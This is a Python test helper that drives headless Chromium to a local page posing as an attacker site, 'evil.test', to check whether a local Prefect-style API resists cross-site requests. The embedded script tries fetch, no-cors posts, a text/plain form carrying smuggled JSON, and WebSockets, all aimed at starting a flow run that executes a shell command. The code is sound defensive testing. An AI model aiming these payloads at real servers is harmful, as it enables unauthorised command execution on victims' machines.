"""Pages of other sites that try to use a local server, in a real browser."""

from __future__ import annotations

import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
FLAGS = (
    "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
)  # fmt: skip
EVIL = "evil.test"
"""A name that leads to this machine, as an attacker can have it."""
WITHIN = 90
"""Seconds that a page has for all that it tries."""

_PAGE = """<!doctype html><title>attack</title><iframe name="sink"></iframe><script>
const api = %(api)s, run = "/deployments/" + %(deployment)s + "/create_flow_run";
const body = JSON.stringify({job_variables: {command: "touch " + %(file)s}});
const json = {"Content-Type": "application/json"}, plain = {"Content-Type": "text/plain"};
async function call(path, options) {
  try {
    const answer = await fetch(api + path, options);
    return answer.type == "opaque" ? "sent" : answer.status + " " + await answer.text();
  } catch (error) { return "blocked"; }
}
function socket(protocols) {
  return new Promise(done => {
    const made = new WebSocket(api.replace("http", "ws") + "/events/in", protocols);
    made.onopen = () => done("open");
    made.onerror = () => done("blocked");
  });
}
function form() {
  const made = document.createElement("form");
  Object.assign(made, {action: api + run, method: "post", enctype: "text/plain", target: "sink"});
  const field = document.createElement("input");
  Object.assign(field, {name: body.slice(0, -1) + ',"tags":["', value: 'form"]}'});
  made.append(field); document.body.append(made); made.submit();
  return new Promise(done => setTimeout(() => done("sent"), 1500));
}
(async () => {
  const seen = {
    get: await call("/csrf-token?client=evil"),
    artifacts: await call("/artifacts/filter", {method: "POST", headers: json, body: "{}"}),
    start: await call(run, {method: "POST", headers: json, body}),
    simple: await call(run, {method: "POST", mode: "no-cors", headers: plain, body}),
    untyped: await call(run, {method: "POST", mode: "no-cors", body: new Blob([body])}),
    form: await form(),
    socket: await socket(),
    subprotocol: await socket(["prefect"]),
  };
  await fetch("%(here)s/seen", {method: "POST", mode: "no-cors", body: JSON.stringify(seen)});
})();
</script>"""


@contextmanager
def browser(profile: Path, address: str, *flags: str) -> Iterator[None]:
    """A browser that shows a page."""
    assert CHROMIUM is not None
    quiet = subprocess.DEVNULL
    command = [CHROMIUM, *FLAGS, *flags, f"--user-data-dir={profile}", address]
    with subprocess.Popen(command, stdout=quiet, stderr=quiet) as process:
        try:
            yield
        finally:
            process.terminate()


def attack(api: str, deployment: str, file: Path, profile: Path) -> dict[str, str]:
    """Have a page of another port of this machine try everything; what it has seen.

    Args:
        api: Address of the API that the page asks.
        deployment: The deployment that it starts.
        file: What its run makes, if its command is run.
        profile: New folder of the browser.
    """
    seen: dict[str, str] = {}
    done = threading.Event()

    class Attacker(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            here = f"http://127.0.0.1:{self.server.server_address[1]}"
            values = {"api": api, "deployment": deployment, "file": str(file)}
            page = _PAGE % {**{k: json.dumps(v) for k, v in values.items()}, "here": here}
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def do_POST(self) -> None:
            seen.update(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(204)
            self.end_headers()
            done.set()

        def log_message(self, *_: Any) -> None:
            """Nothing: the tests' output stays clean."""

    server = HTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    rebound = f"--host-resolver-rules=MAP {EVIL} 127.0.0.1"
    try:
        with browser(profile, f"http://{EVIL}:{server.server_port}/", rebound):
            assert done.wait(WITHIN), "the page has not reported"
    finally:
        server.shutdown()
        server.server_close()
    return seen
